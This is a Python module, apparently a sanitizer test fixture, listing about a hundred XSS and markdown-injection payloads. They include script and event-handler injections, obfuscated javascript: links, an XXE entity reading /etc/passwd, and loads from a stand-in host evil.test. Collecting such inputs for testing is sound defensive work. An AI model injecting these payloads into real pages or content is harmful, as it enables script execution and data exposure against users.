"""What people write who want to do harm."""

from __future__ import annotations

PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.test/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<form action=//evil.test><button>go</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<body onload=alert(1)>
<base href=//evil.test/>
<meta http-equiv=refresh content="0;url=//evil.test">
<link rel=stylesheet href=//evil.test/x.css>
<style>@import '//evil.test/x.css';</style>
<p style="background:url(//evil.test)">x</p>
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&#09;script:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a onclick=alert(1)>x</a>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo 1 ?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<select><template><img src=x onerror=alert(1)></template></select>
<b><p><b><p><img src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<isindex action=javascript:alert(1)>
<a href="https://ok.test" target=_blank rel=opener>x</a>
<a id=location href=x>clobber</a>
<form id=x><input name=parentNode></form>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](java%0ascript:alert(1))
[x](java\
script:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](blob:https://evil.test/1)
[x](intent://evil#Intent;end)
[x](feed:javascript:alert(1))
[x](\x01javascript:alert(1))
[x](https://ok.test "onclick=alert(1)")
[x](https://ok.test" onclick="alert(1))
[x](https://ok.test 'a" onmouseover="alert(1)')
[x]: javascript:alert(1)
![x](javascript:alert(1))
![x](https://evil.test/track.png)
![x](x" onerror="alert(1))
![<img src=x onerror=alert(1)>](y)
[<img src=x onerror=alert(1)>](https://ok.test)
[![x](https://evil.test/a.png)](javascript:alert(1))
<javascript:alert(1)>
<https://ok.test" onclick="alert(1)>
<data:text/html,1>
https://ok.test/"onmouseover="alert(1)
http://ok.test/<script>alert(1)</script>
javascript:alert(1)
mailto:x@ok.test?subject=<script>
//evil.test/x
[x](//evil.test/x)
[x](\\evil.test\x)
`<script>alert(1)</script>`
`` `<img src=x onerror=alert(1)>` ``
**<img src=x onerror=alert(1)>**
~~<svg onload=alert(1)>~~
# <img src=x onerror=alert(1)>
> <script>alert(1)</script>
- <script>alert(1)</script>
1. <script>alert(1)</script>
999999999. <img src=x onerror=alert(1)>
"""

HOSTILE = [line for line in PAYLOADS.strip().splitlines() if line]
HOSTILE += [
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    "```<img src=x onerror=alert(1)>\nx\n```",
    "    <script>alert(1)</script>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)>",
    '[x]\n\n[x]: https://ok.test "\\"><img src=x onerror=alert(1)>"',
    "[a](java\tscript:alert(1))",
    "[a](java\u200bscript:alert(1))",
    "[a](\u0000javascript:alert(1))",
    "<scr\u0000ipt>alert(1)</script>",
    "[a](https://ok.test)" + "\u202e" * 3,
]
